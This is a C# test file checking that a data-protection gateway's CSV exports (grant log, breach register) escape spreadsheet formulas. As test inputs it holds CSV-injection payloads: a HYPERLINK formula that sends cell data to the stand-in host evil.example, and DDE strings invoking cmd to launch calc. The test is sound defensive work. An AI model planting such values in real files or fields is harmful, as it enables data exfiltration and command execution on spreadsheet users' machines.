using Custodian.Gateway.Protos.Access;
using Custodian.Gateway.Protos.Incidents;
using Custodian.Tests.Incidents;
using Custodian.Tests.Infrastructure;
using Google.Protobuf.WellKnownTypes;

namespace Custodian.Tests.Gateway;

/// <summary>The gateway's CSV exports (grant log, breach register) never hand a spreadsheet a formula.</summary>
[Collection(IncidentsCollection.Name)]
public sealed class CsvExportTests(IncidentsPlatform platform)
{
    private const string Formula = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Details\")";
    private const string Neutralised = "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1,\"\"Details\"\")\"";

    [Fact]
    public async Task AFormulaInAJustificationOrAReasonComesOutOfBothExportsAsText()
    {
        // Arrange: a grant justified and revoked with formulas; an incident whose nature, consequences and measures are formulas
        var officer = platform.Access(Platform.NewId("officer"), "officer");
        var staff = Platform.NewId("staff");
        var issue = new IssueGrantRequest
        {
            Principal = staff,
            Scope = new GrantScope { TenantId = IncidentsPlatform.Acme, SubjectIds = { "s1" } },
            Operations = { Custodian.Gateway.Protos.Access.Operation.Read },
            Purpose = "support",
            Justification = Formula,
            Cidrs = { "10.1.0.0/16" },
            ValidFrom = Timestamp.FromDateTimeOffset(DateTimeOffset.UtcNow),
            ValidUntil = Timestamp.FromDateTimeOffset(DateTimeOffset.UtcNow.AddHours(1)),
        };
        var grant = await officer.IssueGrantAsync(issue);
        await officer.RevokeGrantAsync(new GrantActionRequest { GrantId = grant.GrantId, Reason = "\t-2+3+cmd|' /C calc'!A0" });
        var tenant = Platform.NewId("tenant");
        var incidents = new Custodian.Gateway.Protos.Incidents.Incidents.IncidentsClient(platform.Channel(platform.Token(null, "officer")));
        await incidents.OpenIncidentAsync(new OpenIncidentRequest
        {
            TenantId = tenant,
            IncidentId = Platform.NewId("inc"),
            AwareAt = Timestamp.FromDateTimeOffset(platform.Clock.GetUtcNow().AddHours(-1)),
            Facts = new Custodian.Gateway.Protos.Incidents.IncidentFacts { Nature = Formula, LikelyConsequences = "+1+cmd|' /C calc'!A0", Measures = "@SUM(1,2)" },
        });

        // Act
        var dpo = platform.Access(Platform.NewId("dpo"), "dpo");
        var grantLog = (await dpo.ExportGrantLogAsync(new ExportGrantLogRequest { Filter = new ListGrantLogRequest { Principal = staff }, Format = "csv" })).Content.ToStringUtf8();
        var register = (await incidents.ExportRegisterAsync(new ExportRegisterRequest { TenantId = tenant, Format = RegisterFormat.Csv })).Content;

        // Assert: each dangerous cell starts with a quote character inside RFC 4180 quotes; no cell starts with a formula
        Assert.Contains("," + Neutralised + "\r\n", grantLog);
        Assert.Contains(",\"'\t-2+3+cmd|' /C calc'!A0\"\r\n", grantLog);
        Assert.Contains("," + Neutralised + ",", register);
        Assert.Contains(",\"'+1+cmd|' /C calc'!A0\",", register);
        Assert.Contains(",\"'@SUM(1,2)\",", register);
        foreach (var csv in new[] { grantLog, register })
        {
            Assert.DoesNotContain(",=", csv);
            Assert.DoesNotContain(",\"=", csv);
            Assert.DoesNotContain(",\t", csv);
            Assert.DoesNotContain(",\"\t", csv);
            Assert.EndsWith("\r\n", csv);
            Assert.Equal(csv.Split("\r\n").Length - 1, csv.Count(c => c == '\n')); // every line ends CRLF (RFC 4180)
        }
    }
}
